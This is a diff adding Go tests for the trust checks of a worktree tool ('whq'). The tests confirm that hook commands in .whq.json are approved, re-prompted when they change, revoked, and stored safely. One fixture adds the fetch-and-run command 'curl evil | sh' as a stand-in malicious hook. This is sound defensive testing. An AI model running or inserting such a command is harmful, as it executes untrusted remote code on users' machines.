@@ -0,0 +1,206 @@
+package main
+
+import (
+	"bytes"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+)
+
+func loadConfigString(t *testing.T, data string) *whqConfig {
+	t.Helper()
+	repoRoot := t.TempDir()
+	writeFile(t, filepath.Join(repoRoot, ".whq.json"), data)
+	cfg, err := loadWHQConfig(repoRoot)
+	if err != nil {
+		t.Fatalf("load failed: %v", err)
+	}
+	return cfg
+}
+
+func TestEnsureTrustedPromptsAndRemembers(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv("WHQ_TRUST_ALL", "")
+	repoRoot := "/src/app"
+	cfg := loadConfigString(t, `{"post_add": {"commands": ["pnpm install"]}}`)
+
+	stubPrompt(t, "")
+	promptInteractive = func() bool { return false }
+	err := ensureTrusted(cfg, repoRoot)
+	if err == nil || !strings.Contains(err.Error(), "whq trust") {
+		t.Fatalf("expected non-interactive refusal, got %v", err)
+	}
+
+	out := stubPrompt(t, "n\n")
+	if err := ensureTrusted(cfg, repoRoot); err == nil {
+		t.Fatalf("expected refusal when answering no")
+	}
+	if !strings.Contains(out.String(), "post_add: pnpm install") {
+		t.Fatalf("prompt should list commands: %q", out.String())
+	}
+
+	stubPrompt(t, "y\n")
+	if err := ensureTrusted(cfg, repoRoot); err != nil {
+		t.Fatalf("expected approval, got %v", err)
+	}
+	// Approved: no prompt needed even without a terminal.
+	promptInteractive = func() bool { return false }
+	if err := ensureTrusted(cfg, repoRoot); err != nil {
+		t.Fatalf("approved commands should pass, got %v", err)
+	}
+
+	changed := loadConfigString(t, `{"post_add": {"commands": ["pnpm install", "curl evil | sh"]}}`)
+	out = stubPrompt(t, "n\n")
+	if err := ensureTrusted(changed, repoRoot); err == nil {
+		t.Fatalf("changed commands must be re-approved")
+	}
+	if !strings.Contains(out.String(), "changed since they were approved") {
+		t.Fatalf("prompt should mention the change: %q", out.String())
+	}
+
+	t.Setenv("WHQ_TRUST_ALL", "1")
+	if err := ensureTrusted(changed, repoRoot); err != nil {
+		t.Fatalf("WHQ_TRUST_ALL should bypass the check, got %v", err)
+	}
+}
+
+func TestRunTrustAndRevoke(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv("WHQ_TRUST_ALL", "")
+	stubPrompt(t, "")
+	promptInteractive = func() bool { return false }
+	repoRoot := "/src/app"
+	cfg := loadConfigString(t, `{"pre_rm": {"commands": [["docker", "compose", "down"]]}}`)
+
+	var out bytes.Buffer
+	if err := runTrust(cfg, repoRoot, false, &out); err != nil {
+		t.Fatalf("trust failed: %v", err)
+	}
+	if !strings.Contains(out.String(), "pre_rm: docker compose down") || !strings.Contains(out.String(), "Trusted .whq.json commands") {
+		t.Fatalf("unexpected trust output: %q", out.String())
+	}
+	if err := ensureTrusted(cfg, repoRoot); err != nil {
+		t.Fatalf("expected trusted after whq trust, got %v", err)
+	}
+
+	out.Reset()
+	if err := runTrust(cfg, repoRoot, true, &out); err != nil {
+		t.Fatalf("revoke failed: %v", err)
+	}
+	if !strings.Contains(out.String(), "Revoked trust") {
+		t.Fatalf("unexpected revoke output: %q", out.String())
+	}
+	if err := ensureTrusted(cfg, repoRoot); err == nil {
+		t.Fatalf("expected untrusted after revoke")
+	}
+}
+
+func TestTrustKeepsApprovalsPerConfiguration(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv("WHQ_TRUST_ALL", "")
+	repoRoot := "/src/app"
+	mainCfg := loadConfigString(t, `{"post_add": {"commands": ["make"]}}`)
+	featureCfg := loadConfigString(t, `{"post_add": {"commands": ["make", "make test"]}}`)
+
+	stubPrompt(t, "y\ny\n")
+	for _, cfg := range []*whqConfig{mainCfg, featureCfg} {
+		if err := ensureTrusted(cfg, repoRoot); err != nil {
+			t.Fatalf("expected approval, got %v", err)
+		}
+	}
+	// Approving one branch's commands does not forget the other's.
+	promptInteractive = func() bool { return false }
+	for _, cfg := range []*whqConfig{mainCfg, featureCfg} {
+		if err := ensureTrusted(cfg, repoRoot); err != nil {
+			t.Fatalf("approved commands should pass, got %v", err)
+		}
+	}
+}
+
+func TestTrustReadsSingleApproval(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", dir)
+	t.Setenv("WHQ_TRUST_ALL", "")
+	stubPrompt(t, "")
+	promptInteractive = func() bool { return false }
+	cfg := loadConfigString(t, `{"post_add": {"commands": ["make"]}}`)
+	digest, err := commandsDigest(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	writeFile(t, filepath.Join(dir, "whq", "trust.json"), `{"repos": {"/src/app": {"hash": "`+digest+`", "approved_at": "2026-01-02T03:04:05Z"}}}`)
+	if err := ensureTrusted(cfg, "/src/app"); err != nil {
+		t.Fatalf("expected the old entry to count, got %v", err)
+	}
+}
+
+func TestTrustBranchFollowsConfigSource(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
+	t.Setenv("WHQ_TRUST_ALL", "")
+	stubPrompt(t, "")
+	promptInteractive = func() bool { return false }
+	repo := initGitRepo(t)
+	writeFile(t, filepath.Join(repo, ".whq.json"), `{"config_source": "base-revision", "post_add": {"commands": ["make"]}}`)
+	runGit(t, repo, "add", ".whq.json")
+	runGit(t, repo, "commit", "-q", "-m", "config")
+	runGit(t, repo, "checkout", "-q", "-b", "feature")
+	writeFile(t, filepath.Join(repo, ".whq.json"), `{"config_source": "base-revision", "post_add": {"commands": ["make", "make test"]}}`)
+	runGit(t, repo, "commit", "-q", "-am", "feature config")
+	runGit(t, repo, "checkout", "-q", "-")
+	origEnv := env
+	env.RepoRoot, env.RepoWHQRoot = repo, t.TempDir()
+	t.Cleanup(func() { env = origEnv })
+
+	if err := trustCmd.RunE(trustCmd, []string{"feature"}); err != nil {
+		t.Fatalf("trust failed: %v", err)
+	}
+	mainCfg, err := loadWHQConfig(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := loadBranchConfig(mainCfg, "feature")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.PostAdd.Commands) != 2 {
+		t.Fatalf("expected the branch's configuration, got %+v", cfg.PostAdd.Commands)
+	}
+	if err := ensureTrusted(cfg, repo); err != nil {
+		t.Fatalf("expected the branch's commands to be trusted, got %v", err)
+	}
+	// The main worktree's commands were not approved by it.
+	if err := ensureTrusted(mainCfg, repo); err == nil {
+		t.Fatal("expected the main worktree's commands to be untrusted")
+	}
+}
+
+func TestTrustStoreConcurrentSaves(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", dir)
+	var wg sync.WaitGroup
+	for i := 0; i < 8; i++ {
+		wg.Add(1)
+		go func(i int) {
+			defer wg.Done()
+			store := &trustStore{Repos: map[string]trustEntries{}}
+			store.approve(fmt.Sprintf("/src/app%d", i), "sha256:"+strings.Repeat("0", i+1))
+			if err := store.save(); err != nil {
+				t.Error(err)
+			}
+		}(i)
+	}
+	wg.Wait()
+	if _, err := loadTrustStore(); err != nil {
+		t.Fatalf("trust store corrupt after concurrent saves: %v", err)
+	}
+	path, _ := trustStorePath()
+	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o600 {
+		t.Fatalf("expected mode 0600, got %v, %v", info, err)
+	}
+	if tmp, _ := filepath.Glob(filepath.Join(filepath.Dir(path), "*.tmp")); len(tmp) != 0 {
+		t.Fatalf("temporary files left behind: %v", tmp)
+	}
+}